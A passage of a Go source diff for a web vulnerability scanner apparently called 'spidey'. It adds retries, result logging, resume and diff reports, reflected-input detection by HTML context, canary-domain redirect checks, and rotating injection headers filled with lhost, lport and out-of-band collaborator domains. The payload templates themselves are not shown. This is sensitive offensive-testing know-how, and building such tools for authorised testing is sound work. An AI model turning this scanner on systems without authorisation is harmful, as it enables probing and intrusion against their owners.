+		if secs <= 0 {
+			return 0
+		}
+		return time.Duration(secs) * time.Second
+	}
+	if t, err := http.ParseTime(v); err == nil && t.After(now) {
+		return t.Sub(now)
+	}
+	return 0
+}
+
+// retryBackoff doubles from 400ms per attempt, capped at -retry-max-backoff,
+// plus a random extra of up to -retry-jitter times the delay.
+func retryBackoff(attempt int) time.Duration {
+	if attempt <= 0 {
+		return 0
+	}
+	d := 400 * time.Millisecond
+	for i := 1; i < attempt && d < retryMaxBackoff; i++ {
+		d *= 2
+	}
+	if d > retryMaxBackoff {
+		d = retryMaxBackoff
+	}
+	j := int64(float64(d) * retryJitter)
+	if j <= 0 {
+		return d
+	}
+	return d + time.Duration(rand.Int63n(j+1))
+}
+
+// transient reports whether a failure is worth retrying: timeouts, resets and
+// EOFs, or a 429/5xx answer. Anything else would fail the same way again.
+func transient(err error, code int) bool {
+	if err != nil {
+		if ne, ok := err.(net.Error); ok && ne.Timeout() {
+			return true
+		}
+		msg := strings.ToLower(err.Error())
+		return strings.Contains(msg, "reset") || strings.Contains(msg, "broken pipe") || strings.Contains(msg, "eof")
+	}
+	return code == http.StatusTooManyRequests || (code >= 500 && code <= 504)
+}
+
+// takeRetry claims one retry from the budget, reporting false once it is spent.
+func takeRetry() bool {
+	if retryBudget < 0 {
+		atomic.AddInt64(&retriesUsed, 1)
+		return true
+	}
+	for {
+		used := atomic.LoadInt64(&retriesUsed)
+		if used >= retryBudget {
+			return false
+		}
+		if atomic.CompareAndSwapInt64(&retriesUsed, used, used+1) {
+			return true
+		}
+	}
+}
+
+// printRetryStats reports retries used so far in the run against the budget.
+func printRetryStats() {
+	used := atomic.LoadInt64(&retriesUsed)
+	if retryBudget < 0 {
+		fmt.Printf("Retries: %d used (no budget)", used)
+	} else {
+		fmt.Printf("Retries: %d of %d budget used", used, retryBudget)
+	}
+	if denied := atomic.LoadInt64(&retriesDenied); denied > 0 {
+		fmt.Printf(", %d requests failed without retry after it ran out", denied)
+	}
+	if waits := atomic.LoadInt64(&retryAfterWaits); waits > 0 {
+		fmt.Printf(", %d waited on a 429's Retry-After", waits)
+	}
+	fmt.Println()
+}
+
+// resultRecord is one line of -o output.
+type resultRecord struct {
+	Method    string `json:"method"`
+	URL       string `json:"url"`
+	Status    int    `json:"status,omitempty"`
+	Proto     string `json:"proto,omitempty"`
+	CanaryHit bool   `json:"canary_hit,omitempty"`
+	Match     string `json:"match,omitempty"`
+	Location  string `json:"location,omitempty"`
+	Error     string `json:"error,omitempty"`
+	Reused    bool   `json:"reused"`     // sent over a kept-alive connection
+	ElapsedMS int64  `json:"elapsed_ms"` // whole exchange, retries included
+	LatencyMS int64  `json:"latency_ms"` // last attempt, up to the response headers
+}
+
+var recordCSVHeader = []string{"method", "url", "status", "proto", "canary_hit", "match", "location", "error", "reused", "elapsed_ms", "latency_ms"}
+
+// recordWriter serializes result records from concurrent requests to a file
+// as JSON lines or CSV.
+type recordWriter struct {
+	mu  sync.Mutex
+	f   *os.File
+	w   *bufio.Writer
+	csv *csv.Writer // nil for json
+}
+
+func newRecordWriter(path, format string, appendTo bool) (*recordWriter, error) {
+	if format != "json" && format != "csv" {
+		return nil, fmt.Errorf("unknown -format %q (use json|csv)", format)
+	}
+	flags := os.O_CREATE | os.O_WRONLY | os.O_TRUNC
+	if appendTo {
+		flags = os.O_CREATE | os.O_RDWR
+	}
+	f, err := os.OpenFile(path, flags, 0644)
+	if err != nil {
+		return nil, err
+	}
+	if appendTo {
+		if err := trimTornLine(f); err != nil {
+			f.Close()
+			return nil, err
+		}
+	}
+	rw := &recordWriter{f: f, w: bufio.NewWriter(f)}
+	if format == "csv" {
+		rw.csv = csv.NewWriter(rw.w)
+		rw.csv.Write(recordCSVHeader)
+	}
+	return rw, nil
+}
+
+// trimTornLine cuts f back to just after its last newline, dropping the
+// partial record a killed run may have left, and leaves the offset at the
+// end so new records start on a line of their own.
+func trimTornLine(f *os.File) error {
+	st, err := f.Stat()
+	if err != nil {
+		return err
+	}
+	end := st.Size()
+	buf := make([]byte, 64*1024)
+	for end > 0 {
+		n := int64(len(buf))
+		if n > end {
+			n = end
+		}
+		if _, err := f.ReadAt(buf[:n], end-n); err != nil {
+			return err
+		}
+		if i := bytes.LastIndexByte(buf[:n], '\n'); i >= 0 {
+			end = end - n + int64(i) + 1
+			break
+		}
+		end -= n
+	}
+	if end < st.Size() {
+		if err := f.Truncate(end); err != nil {
+			return err
+		}
+	}
+	_, err = f.Seek(end, io.SeekStart)
+	return err
+}
+
+// loadResume reads a previous JSON -o file and returns the method+URL keys of
+// its records that did not fail, so a restarted run only retries the rest.
+// A missing file resumes nothing; a torn last line from a killed run is ignored
+// here and trimmed by newRecordWriter before appending.
+func loadResume(path string) (map[string]struct{}, error) {
+	done := make(map[string]struct{})
+	f, err := os.Open(path)
+	if os.IsNotExist(err) {
+		return done, nil
+	}
+	if err != nil {
+		return nil, err
+	}
+	defer f.Close()
+	sc := bufio.NewScanner(f)
+	sc.Buffer(make([]byte, 0, 64*1024), 2*1024*1024)
+	for sc.Scan() {
+		var rec resultRecord
+		if json.Unmarshal(sc.Bytes(), &rec) != nil || rec.Error != "" {
+			continue
+		}
+		done[seenKey(rec.Method, rec.URL)] = struct{}{}
+	}
+	return done, sc.Err()
+}
+
+func (rw *recordWriter) write(method, u string, res fetchResult, err error, elapsed time.Duration) {
+	rec := resultRecord{Method: method, URL: u, ElapsedMS: elapsed.Milliseconds(), LatencyMS: res.Elapsed.Milliseconds()}
+	if err != nil {
+		rec.Error = err.Error()
+	} else {
+		rec.Status, rec.Proto, rec.CanaryHit, rec.Match, rec.Location, rec.Reused = res.Status, res.Proto, res.CanaryHit, res.Match, res.Location, res.Reused
+	}
+	rw.mu.Lock()
+	defer rw.mu.Unlock()
+	if rw.csv != nil {
+		status := ""
+		if rec.Status != 0 {
+			status = strconv.Itoa(rec.Status)
+		}
+		rw.csv.Write([]string{rec.Method, rec.URL, status, rec.Proto, strconv.FormatBool(rec.CanaryHit), rec.Match, rec.Location, rec.Error, strconv.FormatBool(rec.Reused), strconv.FormatInt(rec.ElapsedMS, 10), strconv.FormatInt(rec.LatencyMS, 10)})
+		return
+	}
+	b, _ := json.Marshal(rec)
+	rw.w.Write(b)
+	rw.w.WriteByte('\n')
+}
+
+func (rw *recordWriter) close() {
+	rw.mu.Lock()
+	defer rw.mu.Unlock()
+	if rw.csv != nil {
+		rw.csv.Flush()
+	}
+	rw.w.Flush()
+	rw.f.Close()
+}
+
+// statusDiff compares this run's outcomes with a previous -o JSON file, keyed
+// by method and URL. An outcome is the status code or "error".
+type statusDiff struct {
+	prior map[string]string
+	mu    sync.Mutex
+	cur   map[string]string
+}
+
+func loadStatusDiff(path string) (*statusDiff, error) {
+	f, err := os.Open(path)
+	if err != nil {
+		return nil, err
+	}
+	defer f.Close()
+	d := &statusDiff{prior: make(map[string]string), cur: make(map[string]string)}
+	sc := bufio.NewScanner(f)
+	sc.Buffer(make([]byte, 0, 64*1024), 2*1024*1024)
+	for n := 1; sc.Scan(); n++ {
+		line := bytes.TrimSpace(sc.Bytes())
+		if len(line) == 0 {
+			continue
+		}
+		var rec resultRecord
+		if err := json.Unmarshal(line, &rec); err != nil {
+			return nil, fmt.Errorf("line %d: %v (expects -o output in json format)", n, err)
+		}
+		d.prior[rec.Method+" "+rec.URL] = outcome(rec.Status, rec.Error != "")
+	}
+	return d, sc.Err()
+}
+
+func outcome(status int, failed bool) string {
+	if failed {
+		return "error"
+	}
+	return strconv.Itoa(status)
+}
+
+// record keeps the latest outcome per request (the last replay wins).
+func (d *statusDiff) record(method, u string, res fetchResult, err error) {
+	d.mu.Lock()
+	d.cur[method+" "+u] = outcome(res.Status, err != nil)
+	d.mu.Unlock()
+}
+
+func (d *statusDiff) report(path string) {
+	var appeared, changed, gone []string
+	for k, now := range d.cur {
+		before, ok := d.prior[k]
+		switch {
+		case !ok:
+			appeared = append(appeared, fmt.Sprintf("%s (%s)", k, now))
+		case before != now:
+			changed = append(changed, fmt.Sprintf("%s (%s -> %s)", k, before, now))
+		}
+	}
+	for k, before := range d.prior {
+		if _, ok := d.cur[k]; !ok {
+			gone = append(gone, fmt.Sprintf("%s (was %s)", k, before))
+		}
+	}
+	fmt.Printf("=== Changes since %s ===\n", path)
+	for _, g := range []struct {
+		name  string
+		items []string
+	}{{"Changed", changed}, {"Appeared", appeared}, {"Disappeared", gone}} {
+		sort.Strings(g.items)
+		fmt.Printf("%s: %d\n", g.name, len(g.items))
+		for _, it := range g.items {
+			fmt.Printf("  %s\n", it)
+		}
+	}
+	fmt.Println()
+}
+
+// bucketWriter fans result lines out to one file per bucket (2xx.txt, ...,
+// errors.txt) in dir. Files are created on first use and each bucket
+// serializes its own writes.
+type bucketWriter struct {
+	dir     string
+	mu      sync.Mutex
+	buckets map[string]*bucket
+}
+
+type bucket struct {
+	mu sync.Mutex
+	f  *os.File
+	w  *bufio.Writer
+	n  int
+}
+
+func newBucketWriter(dir string) (*bucketWriter, error) {
+	if err := os.MkdirAll(dir, 0755); err != nil {
+		return nil, err
+	}
+	return &bucketWriter{dir: dir, buckets: make(map[string]*bucket)}, nil
+}
+
+func (bw *bucketWriter) write(name, line string) {
+	bw.mu.Lock()
+	b, ok := bw.buckets[name]
+	if !ok {
+		f, err := os.Create(filepath.Join(bw.dir, name+".txt"))
+		if err != nil {
+			bw.mu.Unlock()
+			fmt.Printf("[ERROR] group-output: %v\n", err)
+			return
+		}
+		b = &bucket{f: f, w: bufio.NewWriter(f)}
+		bw.buckets[name] = b
+	}
+	bw.mu.Unlock()
+
+	b.mu.Lock()
+	_, _ = b.w.WriteString(line + "\n")
+	b.n++
+	b.mu.Unlock()
+}
+
+// close flushes every bucket and prints the per-bucket counts.
+func (bw *bucketWriter) close() {
+	bw.mu.Lock()
+	defer bw.mu.Unlock()
+	names := make([]string, 0, len(bw.buckets))
+	for name := range bw.buckets {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+	fmt.Printf("Grouped results in %s:\n", bw.dir)
+	for _, name := range names {
+		b := bw.buckets[name]
+		b.mu.Lock()
+		_ = b.w.Flush()
+		_ = b.f.Close()
+		fmt.Printf("  %s.txt: %d\n", name, b.n)
+		b.mu.Unlock()
+	}
+}
+
+// statusBucket names the status class file for code, e.g. 404 -> "4xx".
+func statusBucket(code int) string {
+	return fmt.Sprintf("%dxx", code/100)
+}
+
+// fetchResult is what a single request observed.
+type fetchResult struct {
+	Status     int
+	Proto      string        // negotiated protocol, e.g. HTTP/1.1 or HTTP/2.0
+	CanaryHit  bool          // a redirect hop or the final Location pointed at -canary-domain
+	Match      string        // first -match hit in the body, empty if none
+	Elapsed    time.Duration // time from sending the request to the response headers
+	Location   string        // Location of an unfollowed 3xx
+	Reflected  []reflection  // query values echoed in the body, with -reflect-context
+	Baseline   time.Duration // -baseline median for the host, 0 without one
+	Benign     time.Duration // -sleep-detect latency of the benign copy, 0 without one
+	Curl       string        // -curl command reproducing the request
+	RetryAfter time.Duration // Retry-After of a 429, 0 if absent or unparsable
+	Reused     bool          // the final hop went over a kept-alive connection
+
+	PayloadReflected string // -reflect: "query NAME", header name or "body" whose sent value came back verbatim
+}
+
+// fetchStatus performs a single HTTP request using method (POST, PUT and PATCH carry the -data body, empty by default) and returns its fetchResult.
+// Applies rotating headers if enabled and substitutes lhost/lport/collab into header templates.
+func fetchStatus(client *http.Client, raw string, method string) (fetchResult, error) {
+	payloadLimiter.wait()
+	globalLimiter.wait()
+	if host, err := extractHost(raw); err == nil {
+		hostPacer.wait(host)
+	}
+	ctx, cancel := context.WithTimeout(runCtx, requestTimeout)
+	defer cancel()
+
+	var canaryHit, reused int32
+	ctx = context.WithValue(ctx, canaryHitKey{}, &canaryHit)
+	ctx = httptrace.WithClientTrace(ctx, &httptrace.ClientTrace{
+		GotConn: func(info httptrace.GotConnInfo) {
+			if info.Reused {
+				atomic.AddInt64(&connReused, 1)
+				atomic.StoreInt32(&reused, 1)
+			} else {
+				atomic.AddInt64(&connNew, 1)
+				atomic.StoreInt32(&reused, 0)
+			}
+		},
+	})
+
+	var body io.Reader
+	if sendsBody(method) {
+		body = bytes.NewReader(reqBody)
+	}
+
+	oob := collab
+	target := raw
+	if oast != nil {
+		oob = oast.domainFor(method + " " + raw)
+		if collab != "" {
+			target = strings.ReplaceAll(raw, collab, oob)
+		}
+	} else if collabPoll != nil {
+		oob = collabPoll.domainFor(method + " " + raw)
+		target = strings.ReplaceAll(raw, collab, oob)
+	}
+
+	req, err := http.NewRequestWithContext(ctx, method, target, body)
+	if err != nil {
+		return fetchResult{}, err
+	}
+	var sent []sentPayload
+	if sendsBody(method) {
+		sent = append(sent, sentPayload{"body", string(reqBody)})
+	}
+	if reflectPayloads {
+		sent = append(sent, queryPayloads(req.URL)...)
+	}
+
+	applyCustomHeaders(req)
+
+	if useRotatingHeader {
+		slot, ok := templateFor[raw]
+		if !ok {
+			cur := atomic.AddInt64(&headerIndex, 1)
+			slot = rotationAt(int(cur-1), int(cur-1)%len(rotatingHeaderTemplates))
+		}
+		port := ""
+		if len(lports) > 0 {
+			port = lports[slot.port]
+			portsUsed.add(port)
+		}
+		tpl := rotatingHeaderTemplates[slot.tpl]
+		hdr := expandHeaderTemplate(tpl, lhost, port, oob)
+		for k, v := range hdr {
+			req.Header.Set(k, v)
+			sent = append(sent, sentPayload{http.CanonicalHeaderKey(k), v})
+		}
+	} else if req.Header.Get("User-Agent") == "" {
+		ua := "Mozilla/5.0 (compatible; spidey/1.0)"
+		if len(userAgents) > 0 {
+			cur := atomic.AddInt64(&uaIndex, 1)
+			ua = userAgents[(cur-1)%int64(len(userAgents))]
+		}
+		req.Header.Set("User-Agent", ua)
+	}
+
+	if sendsBody(method) {
+		if req.Header.Get("Content-Type") == "" {
+			req.Header.Set("Content-Type", contentType)
+		}
+	}
+
+	curl := ""
+	if showCurl {
+		curl = curlCommand(req)
+	}
+
+	var vlog reqLog
+	defer vlog.flush()
+	vlog.logRequest(req)
+
+	start := time.Now()
+	resp, err := client.Do(req)
+	elapsed := time.Since(start)
+	if err != nil {
+		vlog.logf(1, "! %v", err)
+		return fetchResult{Elapsed: elapsed}, err
+	}
+	vlog.logResponse(resp, elapsed)
+	res := fetchResult{Status: resp.StatusCode, Proto: resp.Proto, Elapsed: elapsed, Curl: curl}
+	if host, err := extractHost(raw); err == nil {
+		res.Baseline = baselines[host]
+	}
+	if resp.StatusCode >= 300 && resp.StatusCode < 400 {
+		res.Location = resp.Header.Get("Location")
+	}
+	if resp.StatusCode == http.StatusTooManyRequests {
+		res.RetryAfter = parseRetryAfter(resp.Header.Get("Retry-After"), time.Now())
+	}
+	scan := len(matchRes) > 0 || reflectOut != nil || reflectPayloads
+	if scan && !scannable(resp) {
+		scan = false
+		atomic.AddInt64(&bodiesSkipped, 1)
+	}
+	if scan || verbosity >= 3 {
+		b, _ := io.ReadAll(io.LimitReader(resp.Body, max(matchBytes, verboseBodyBytes)))
+		vlog.logBody(b)
+		if matchBytes > 0 && len(b) > int(matchBytes) {
+			b = b[:matchBytes]
+		}
+		if scan && len(matchRes) > 0 {
+			res.Match = matchBody(bytes.NewReader(b))
+		}
+		if scan && reflectOut != nil {
+			res.Reflected = findReflections(req.URL, b)
+		}
+		if scan && reflectPayloads {
+			res.PayloadReflected = reflectedPayload(sent, b)
+		}
 	}
 	io.Copy(io.Discard, resp.Body)
 	resp.Body.Close()
+	res.Reused = atomic.LoadInt32(&reused) == 1
+
+	if canaryDomain != "" {
+		res.CanaryHit = atomic.LoadInt32(&canaryHit) == 1
+		if loc, err := resp.Location(); err == nil && isCanaryHost(loc.Hostname()) {
+			res.CanaryHit = true
+		}
+	}
+	return res, nil
 }
 
-func uniqueHosts(urls []string) map[string]struct{} {
-	hosts := make(map[string]struct{}, len(urls))
-	for _, raw := range urls {
-		host, err := extractHost(raw)
-		if err != nil || host == "" {
+// scannable applies the -scan-* gate to a response from its headers alone.
+// An unknown length or a missing Content-Type does not rule a body out.
+func scannable(resp *http.Response) bool {
+	if n := resp.ContentLength; n >= 0 {
+		if n < scanMinBody || (scanMaxBody > 0 && n > scanMaxBody) {
+			return false
+		}
+	}
+	ct := strings.ToLower(strings.TrimSpace(resp.Header.Get("Content-Type")))
+	if ct == "" {
+		return true
+	}
+	for _, p := range scanSkipTypes {
+		if strings.HasPrefix(ct, p) {
+			return false
+		}
+	}
+	return true
+}
+
+// sentPayload is one injected value fetchStatus put on the wire: a query
+// value, a rotating header (by name) or the request body.
+type sentPayload struct {
+	where, value string
+}
+
+// queryPayloads lists the decoded query values of u, which carry the -pairs
+// payloads and any inserter markers, sorted by parameter name.
+func queryPayloads(u *url.URL) []sentPayload {
+	q := u.Query()
+	keys := make([]string, 0, len(q))
+	for k := range q {
+		keys = append(keys, k)
+	}
+	sort.Strings(keys)
+	var out []sentPayload
+	for _, k := range keys {
+		for _, v := range q[k] {
+			out = append(out, sentPayload{"query " + k, v})
+		}
+	}
+	return out
+}
+
+// reflectedPayload returns where the first payload found verbatim in body was
+// sent, or "" when none of them came back.
+func reflectedPayload(sent []sentPayload, body []byte) string {
+	for _, p := range sent {
+		if len(p.value) >= minReflectLen && bytes.Contains(body, []byte(p.value)) {
+			return p.where
+		}
+	}
+	return ""
+}
+
+// reflection is a query parameter whose value came back in the body, and the
+// HTML context of its first occurrence.
+type reflection struct {
+	Param   string
+	Context string
+}
+
+// Minimum value length worth searching for; shorter values echo by chance.
+const minReflectLen = 4
+
+// findReflections searches body for every query value of u, raw and
+// URL-decoded, and classifies where each first appears.
+func findReflections(u *url.URL, body []byte) []reflection {
+	var out []reflection
+	found := make(map[string]bool)
+	for _, pair := range strings.FieldsFunc(u.RawQuery, func(r rune) bool { return r == '&' || r == ';' }) {
+		rawName, rawVal, _ := strings.Cut(pair, "=")
+		name, err := url.QueryUnescape(rawName)
+		if err != nil {
+			name = rawName
+		}
+		if found[name] {
 			continue
 		}
-		hosts[host] = struct{}{}
+		cands := []string{rawVal}
+		if dec, err := url.QueryUnescape(rawVal); err == nil && dec != rawVal {
+			cands = append(cands, dec)
+		}
+		for _, v := range cands {
+			if len(v) < minReflectLen {
+				continue
+			}
+			if i := bytes.Index(body, []byte(v)); i >= 0 {
+				out = append(out, reflection{Param: name, Context: reflectContext(body, i)})
+				found[name] = true
+				break
+			}
+		}
 	}
-	return hosts
+	sort.Slice(out, func(i, j int) bool { return out[i].Param < out[j].Param })
+	return out
 }
 
-func extractHost(rawurl string) (string, error) {
-	u, err := url.Parse(rawurl)
-	if err != nil {
-		return "", err
+// reflectContext classifies the markup around body[i]:
+//
+//	comment   inside <!-- ... -->
+//	script    inside a <script> block
+//	attribute inside a tag, i.e. an attribute value or name
+//	tag-body  plain text between tags
+//
+// Checks run in that order, so a '<' inside a script does not count as a tag.
+func reflectContext(body []byte, i int) string {
+	before := bytes.ToLower(body[:i])
+	if bytes.LastIndex(before, []byte("<!--")) > bytes.LastIndex(before, []byte("-->")) {
+		return "comment"
+	}
+	if bytes.LastIndex(before, []byte("<script")) > bytes.LastIndex(before, []byte("</script")) {
+		return "script"
+	}
+	if bytes.LastIndexByte(before, '<') > bytes.LastIndexByte(before, '>') {
+		return "attribute"
 	}
-	return u.Host, nil
+	return "tag-body"
 }
 
-func readURLs(path string) ([]string, error) {
-	f, err := os.Open(path)
+// reflectReport writes one "context<TAB>param<TAB>method url" line per
+// reflection and counts them by context for the closing summary.
+type reflectReport struct {
+	mu     sync.Mutex
+	path   string
+	f      *os.File
+	w      *bufio.Writer
+	counts map[string]int
+}
+
+func newReflectReport(path string) (*reflectReport, error) {
+	f, err := os.Create(path)
 	if err != nil {
 		return nil, err
 	}
-	defer f.Close()
-	var urls []string
-	scanner := bufio.NewScanner(f)
-	const maxLine = 2 * 1024 * 1024
-	buf := make([]byte, 0, 128*1024)
-	scanner.Buffer(buf, maxLine)
-	for scanner.Scan() {
-		line := strings.TrimSpace(scanner.Text())
-		if line != "" {
-			urls = append(urls, line)
+	return &reflectReport{path: path, f: f, w: bufio.NewWriter(f), counts: make(map[string]int)}, nil
+}
+
+func (r *reflectReport) write(method, u string, refl []reflection) {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	for _, x := range refl {
+		fmt.Fprintf(r.w, "%s\t%s\t%s %s\n", x.Context, x.Param, method, u)
+		r.counts[x.Context]++
+	}
+}
+
+// close flushes the report and prints the per-context counts.
+func (r *reflectReport) close() {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	r.w.Flush()
+	r.f.Close()
+	total := 0
+	var parts []string
+	for _, c := range []string{"script", "attribute", "comment", "tag-body"} {
+		if n := r.counts[c]; n > 0 {
+			total += n
+			parts = append(parts, fmt.Sprintf("%s %d", c, n))
 		}
 	}
-	return urls, scanner.Err()
+	if total == 0 {
+		fmt.Printf("Reflections: none (%s)\n", r.path)
+		return
+	}
+	fmt.Printf("Reflections: %d (%s) -> %s\n", total, strings.Join(parts, ", "), r.path)
 }
 
-// fetchStatus performs a single HTTP request using method (GET or POST) and returns only the status code.
-// Applies rotating headers if enabled and substitutes lhost/lport/collab into header templates.
-func fetchStatus(client *http.Client, raw string, method string) (int, error) {
-	ctx, cancel := context.WithTimeout(context.Background(), requestTimeout)
-	defer cancel()
+// parseMethods turns the -method list into upper-case method names, dropping
+// repeats; "both" expands to GET,POST.
+func parseMethods(spec string) ([]string, error) {
+	var out []string
+	seen := make(map[string]bool)
+	for _, m := range strings.Split(spec, ",") {
+		m = strings.ToUpper(strings.TrimSpace(m))
+		names := []string{m}
+		if m == "BOTH" {
+			names = []string{http.MethodGet, http.MethodPost}
+		}
+		for _, n := range names {
+			if n == "" || strings.IndexFunc(n, func(r rune) bool { return r < 'A' || r > 'Z' }) >= 0 {
+				return nil, fmt.Errorf("%q (use a list such as get,post,put or both)", spec)
+			}
+			if !seen[n] {
+				seen[n] = true
+				out = append(out, n)
+			}
+		}
+	}
+	return out, nil
+}
 
-	if method != http.MethodGet && method != http.MethodPost {
-		method = http.MethodGet
+// loadData returns the -data body: the file contents for @file, else the
+// string itself.
+func loadData(spec string) ([]byte, error) {
+	if name, ok := strings.CutPrefix(spec, "@"); ok {
+		return os.ReadFile(name)
 	}
+	return []byte(spec), nil
+}
 
-	var body io.Reader
-	if method == http.MethodPost {
-		body = strings.NewReader("")
+// sendsBody reports whether method gets the -data body (empty by default).
+func sendsBody(method string) bool {
+	return method == http.MethodPost || method == http.MethodPut || method == http.MethodPatch
+}
+
+// rewriteRule maps hosts matching from to to. from may hold one *, standing
+// for one or more labels, which a * in to repeats.
+type rewriteRule struct {
+	from, to string
+	n        int // URLs rewritten
+}
+
+func parseRewrites(specs []string) ([]*rewriteRule, error) {
+	var rules []*rewriteRule
+	for _, spec := range specs {
+		from, to, ok := strings.Cut(spec, "=")
+		from, to = strings.ToLower(strings.TrimSpace(from)), strings.TrimSpace(to)
+		if !ok || from == "" || to == "" {
+			return nil, fmt.Errorf("%q (want from=to)", spec)
+		}
+		if strings.Count(from, "*") > 1 || strings.Count(to, "*") > strings.Count(from, "*") {
+			return nil, fmt.Errorf("%q: from may hold one *, and to may only use it if from does", spec)
+		}
+		rules = append(rules, &rewriteRule{from: from, to: to})
 	}
+	return rules, nil
+}
 
-	req, err := http.NewRequestWithContext(ctx, method, raw, body)
-	if err != nil {
-		return 0, err
+// rewrite returns the new host for hostname, or false when the rule does not match.
+func (r *rewriteRule) rewrite(hostname string) (string, bool) {
+	pre, suf, wild := strings.Cut(r.from, "*")
+	if !wild {
+		return r.to, hostname == r.from
 	}
+	if len(hostname) <= len(pre)+len(suf) || !strings.HasPrefix(hostname, pre) || !strings.HasSuffix(hostname, suf) {
+		return "", false
+	}
+	return strings.Replace(r.to, "*", hostname[len(pre):len(hostname)-len(suf)], 1), true
+}
 
-	if useRotatingHeader {
-		cur := atomic.AddInt64(&headerIndex, 1)
-		tpl := rotatingHeaderTemplates[(cur-1)%int64(len(rotatingHeaderTemplates))]
-		hdr := expandHeaderTemplate(tpl, lhost, lport, collab)
-		for k, v := range hdr {
-			req.Header.Set(k, v)
+// applyRewrites rewrites the host of every URL with the first matching rule,
+// keeping scheme, path and query. The URL's port is kept unless to names one.
+func applyRewrites(urls []string, rules []*rewriteRule) []string {
+	out := make([]string, len(urls))
+	for i, raw := range urls {
+		out[i] = raw
+		u, err := url.Parse(raw)
+		if err != nil || u.Host == "" {
+			continue
 		}
-	} else {
-		req.Header.Set("User-Agent", "Mozilla/5.0 (compatible; spidey/1.0)")
+		for _, r := range rules {
+			host, ok := r.rewrite(strings.ToLower(u.Hostname()))
+			if !ok {
+				continue
+			}
+			if _, _, err := net.SplitHostPort(host); err != nil && u.Port() != "" {
+				host = net.JoinHostPort(host, u.Port())
+			}
+			u.Host = host
+			out[i] = u.String()
+			r.n++
+			break
+		}
+	}
+	for _, r := range rules {
+		fmt.Printf("[+] Rewrite %s -> %s: %d URLs\n", r.from, r.to, r.n)
 	}
+	return out
+}
 
-	if method == http.MethodPost {
-		if req.Header.Get("Content-Type") == "" {
-			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+// verboseLevel is a counting flag: every bare -v adds one, -v=N sets it.
+type verboseLevel int
+
+func (v *verboseLevel) String() string   { return strconv.Itoa(int(*v)) }
+func (v *verboseLevel) IsBoolFlag() bool { return true }
+func (v *verboseLevel) Set(s string) error {
+	if s == "true" {
+		*v++
+		return nil
+	}
+	if s == "false" {
+		*v = 0
+		return nil
+	}
+	n, err := strconv.Atoi(s)
+	if err != nil || n < 0 {
+		return fmt.Errorf("want a level >= 0, got %q", s)
+	}
+	*v = verboseLevel(n)
+	return nil
+}
+
+// verboseBodyBytes is how much of the body -v=3 shows.
+const verboseBodyBytes = 2048
+
+// reqLog buffers one request's -v lines and prints them in a single write,
+// so concurrent requests do not interleave line by line.
+type reqLog struct {
+	b strings.Builder
+}
+
+func (l *reqLog) logf(level int, format string, args ...any) {
+	if int(verbosity) < level {
+		return
+	}
+	fmt.Fprintf(&l.b, "[v] "+format+"\n", args...)
+}
+
+// logRequest writes the request line and the headers fetchStatus set.
+func (l *reqLog) logRequest(req *http.Request) {
+	if verbosity < 1 {
+		return
+	}
+	l.logf(1, "> %s %s", req.Method, req.URL)
+	if req.Host != "" && req.Host != req.URL.Host {
+		l.logf(1, "> Host: %s", req.Host)
+	}
+	logHeaders(l, 1, ">", req.Header)
+	if sendsBody(req.Method) {
+		l.logf(1, "> (%d byte body)", len(reqBody))
+	}
+}
+
+// logResponse writes the status line with the negotiated protocol and, from
+// level 2, the response headers.
+func (l *reqLog) logResponse(resp *http.Response, elapsed time.Duration) {
+	if verbosity < 1 {
+		return
+	}
+	l.logf(1, "< %s %s (%s)", resp.Proto, resp.Status, elapsed.Round(time.Millisecond))
+	if verbosity >= 2 {
+		logHeaders(l, 2, "<", resp.Header)
+	}
+}
+
+// logBody writes the start of the body at level 3, escaped so binary or
+// multi-line bodies stay on one line.
+func (l *reqLog) logBody(b []byte) {
+	if verbosity < 3 {
+		return
+	}
+	more := ""
+	if len(b) > verboseBodyBytes {
+		b, more = b[:verboseBodyBytes], " (truncated)"
+	}
+	l.logf(3, "< body %q%s", b, more)
+}
+
+func (l *reqLog) flush() {
+	if l.b.Len() == 0 {
+		return
+	}
+	logMu.Lock()
+	defer logMu.Unlock()
+	os.Stdout.WriteString(l.b.String())
+}
+
+func logHeaders(l *reqLog, level int, dir string, h http.Header) {
+	keys := make([]string, 0, len(h))
+	for k := range h {
+		keys = append(keys, k)
+	}
+	sort.Strings(keys)
+	for _, k := range keys {
+		for _, v := range h[k] {
+			l.logf(level, "%s %s: %s", dir, k, v)
 		}
 	}
+}
 
-	resp, err := client.Do(req)
+// stringList is a repeatable string flag (-H, -rewrite).
+type stringList []string
+
+func (h *stringList) String() string     { return strings.Join(*h, ", ") }
+func (h *stringList) Set(v string) error { *h = append(*h, v); return nil }
+
+// loadHeaders parses 'Name: Value' lines from file and then the -H flags,
+// so -H replaces a file header of the same name.
+func loadHeaders(file string, flags []string) (http.Header, error) {
+	var lines []string
+	if file != "" {
+		ls, err := readURLs(file)
+		if err != nil {
+			return nil, err
+		}
+		for _, l := range ls {
+			if !strings.HasPrefix(l, "#") {
+				lines = append(lines, l)
+			}
+		}
+	}
+	h := make(http.Header)
+	fromFlags := make(map[string]bool)
+	for i, l := range append(lines, flags...) {
+		name, value, ok := strings.Cut(l, ":")
+		name = strings.TrimSpace(name)
+		if !ok || name == "" || strings.ContainsAny(name, " \t") {
+			return nil, fmt.Errorf("%q (want 'Name: Value')", l)
+		}
+		key := http.CanonicalHeaderKey(name)
+		if i >= len(lines) && !fromFlags[key] {
+			h.Del(key)
+			fromFlags[key] = true
+		}
+		h.Add(key, strings.TrimSpace(value))
+	}
+	return h, nil
+}
+
+// loadMatchRes compiles the -match regex and those in -match-file.
+func loadMatchRes(spec, file string) ([]*regexp.Regexp, error) {
+	var pats []string
+	if spec != "" {
+		pats = append(pats, spec)
+	}
+	if file != "" {
+		lines, err := readURLs(file)
+		if err != nil {
+			return nil, err
+		}
+		for _, l := range lines {
+			if !strings.HasPrefix(l, "#") {
+				pats = append(pats, l)
+			}
+		}
+	}
+	res := make([]*regexp.Regexp, 0, len(pats))
+	for _, p := range pats {
+		re, err := regexp.Compile(p)
+		if err != nil {
+			return nil, err
+		}
+		res = append(res, re)
+	}
+	return res, nil
+}
+
+// matchBody returns the first -match hit in r, capped for display.
+func matchBody(r io.Reader) string {
+	body, _ := io.ReadAll(r)
+	for _, re := range matchRes {
+		if m := re.Find(body); m != nil {
+			if len(m) > 200 {
+				m = m[:200]
+			}
+			return string(m)
+		}
+	}
+	return ""
+}
+
+// checkCollab resolves the collaborator domain and sends it one plain HTTP
